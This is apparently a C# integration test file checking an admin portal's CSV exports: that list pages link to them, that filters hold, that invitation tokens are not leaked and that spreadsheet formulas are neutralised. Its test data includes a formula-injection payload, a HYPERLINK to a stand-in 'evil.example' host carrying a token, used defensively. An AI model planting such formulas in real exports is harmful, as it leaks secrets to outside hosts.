using System.Net;
using System.Text;
using PortCooperation.IntegrationTests.Security;
using PortCooperation.IntegrationTests.Web;
using PortCooperation.Web.Domain;

namespace PortCooperation.IntegrationTests.Admin;

/// <summary>
/// "Export of every list to CSV": the staff list pages are found from the app's EndpointDataSource
/// (every Admin-area GET action named Index, the MVC convention for a controller's list), not from a hand-kept
/// list; each must link to a CSV download that answers text/csv with a header row. The only Index pages that
/// are not lists are named below with the reason, and the test fails if a name there stops existing.
/// </summary>
public sealed class StaffListExportTests
{
    /// <summary>Index pages that are not lists of records.</summary>
    internal static readonly Dictionary<string, string> NotLists = new()
    {
        // A summary: counts and the ten latest audit entries, each panel linking to its full list (which exports).
        ["Dashboard.Index"] = "summary of other lists",
        // An upload form for the CSV imports; its preview lists a file's errors, not records.
        ["Imports.Index"] = "upload form",
    };

    [Fact]
    public async Task EveryStaffListPage_LinksToACsvExport_ThatAnswersTextCsvWithAHeaderRow()
    {
        using var factory = new WebFactory();
        // Something in the lists that hide their table when empty, and an activity with id 1 for its registrations list.
        await factory.AddAsync(WebTestData.NewActivity("Export webinar", WebFactory.DefaultNow.UtcDateTime.AddDays(10)));
        var client = await factory.SignedInStaffAsync("admin-export@example.org", Roles.Administrator);

        var indexPages = EndpointCatalogue.Requests(factory.Services)
            .Where(r => r.IsAdminArea && r.Method == "GET" && r.Name.EndsWith(".Index", StringComparison.Ordinal))
            .ToList();
        NotLists.Keys.ShouldBeSubsetOf(indexPages.Select(r => r.Name), "an exception names a page that no longer exists");
        var lists = indexPages.Where(r => !NotLists.ContainsKey(r.Name)).ToList();
        lists.Select(r => r.Name).ShouldContain("Outbox.Index");
        lists.Select(r => r.Name).ShouldContain("Collections.Index");
        lists.Select(r => r.Name).ShouldContain("Registrations.Index");
        lists.Count.ShouldBeGreaterThanOrEqualTo(15);

        var failures = new List<string>();
        foreach (var list in lists)
        {
            var page = await client.PageAsync(list.Path);
            var links = page.QuerySelectorAll("main a[href]")
                .Where(a => a.TextContent.Contains("CSV", StringComparison.Ordinal))
                .Select(a => a.GetAttribute("href")!)
                .ToList();
            if (links.Count == 0)
            {
                failures.Add($"{list}: no CSV link");
                continue;
            }

            // "Import from CSV" links lead to upload forms: at least one link must be the download, and every download must be well formed.
            var downloads = 0;
            foreach (var href in links)
            {
                using var response = await client.GetAsync(WebUtility.HtmlDecode(href));
                if (response.Content.Headers.ContentType?.MediaType != "text/csv")
                {
                    continue;
                }

                downloads++;
                var header = (await response.Content.ReadAsStringAsync()).TrimStart('\uFEFF').Split("\r\n")[0];
                if (response.StatusCode != HttpStatusCode.OK || header.Split(',').Length < 2)
                {
                    failures.Add($"{list}: {href} gave {(int)response.StatusCode} with header '{header}'");
                }
            }

            if (downloads == 0)
            {
                failures.Add($"{list}: none of {string.Join(", ", links)} downloads text/csv");
            }
        }

        failures.ShouldBeEmpty();
    }

    [Fact]
    public async Task OutboxExport_KeepsTheListsFilter_AndLeaksNeitherTokensNorBodies()
    {
        using var factory = new WebFactory();
        var now = WebFactory.DefaultNow.UtcDateTime;
        const string Token = "CfDJ8SecretInvitationToken42";
        await factory.AddAsync(
            new OutboxMessage
            {
                IdempotencyKey = "Invitation:account:user-1:abc",
                CreatedAtUtc = now,
                NextAttemptAtUtc = now,
                ToAddress = "invitee@example.org",
                Subject = "=HYPERLINK(\"https://evil.example/?token=" + Token + "\")",
                BodyText = $"Accept: https://portal.example/Identity/Invitation/Accept?user=u1&token={Token}",
                BodyHtml = $"<a href=\"https://portal.example/Identity/Invitation/Accept?user=u1&amp;token={Token}\">Accept</a>",
                Status = OutboxStatus.DeadLetter,
                Attempts = 6,
                LastError = "SmtpException: rejected link token=" + Token,
            },
            new OutboxMessage
            {
                IdempotencyKey = "Confirmation:registration:1",
                CreatedAtUtc = now,
                NextAttemptAtUtc = now,
                ToAddress = "sent@example.org",
                Subject = "Registration confirmed",
                BodyText = "Cancel: https://portal.example/registrations/cancel?token=other-secret",
                Status = OutboxStatus.Sent,
                Attempts = 1,
                SentAtUtc = now,
            });
        var client = await factory.SignedInStaffAsync();

        var page = await client.PageAsync("/Admin/Outbox?status=deadletter");
        var href = WebUtility.HtmlDecode(page.QuerySelector(".staff-list-meta a")!.GetAttribute("href")!);
        href.ShouldBe("/Admin/Outbox/Export?status=deadletter");
        var (csv, lines) = await CsvAsync(client, href, "outbox-2032-03-01.csv");
        lines[0].ShouldBe("Id,To,Subject,Kind,State,Attempts,QueuedAtUtc,NextAttemptAtUtc,SentAtUtc,LastError");
        lines.Length.ShouldBe(2, "only the dead letter: the list's filter applies");
        lines[1].ShouldContain("invitee@example.org");
        lines[1].ShouldContain(",Invitation,deadletter,6,");
        lines[1].ShouldContain("\"'=HYPERLINK(", Case.Sensitive, "the formula is neutralised");
        csv.ShouldNotContain(Token);
        csv.ShouldNotContain("Accept");
        csv.ShouldNotContain("user-1", Case.Sensitive, "the idempotency key (with the account id) is not exported");
    }

    [Fact]
    public async Task CollectionsExport_ListsEveryCollection_WithFormulasNeutralised()
    {
        using var factory = new WebFactory();
        await factory.AddAsync(new DocumentCollection { Slug = "covid", TitleEn = "@SUM(A1:A9)", TitleEs = "Buenas prácticas COVID-19", PublicationState = PublicationState.Published });
        var client = await factory.SignedInStaffAsync();

        var (_, lines) = await CsvAsync(client, "/Admin/Collections/Export", "collections-2032-03-01.csv");
        lines[0].ShouldBe("Id,Slug,TitleEn,TitleEs,Publication,Documents,UpdatedAt");
        lines.Length.ShouldBe(2);
        lines[1].ShouldContain(",covid,'@SUM(A1:A9),Buenas prácticas COVID-19,Published,0,");
    }

    /// <summary>The download's text (BOM removed) and its non-empty lines, after checking its type and file name.</summary>
    private static async Task<(string Csv, string[] Lines)> CsvAsync(HttpClient client, string url, string fileName)
    {
        using var response = await client.GetAsync(url);
        response.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        response.Content.Headers.ContentDisposition!.FileName.ShouldBe(fileName);
        var csv = Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync()).TrimStart('\uFEFF');
        return (csv, csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries));
    }
}
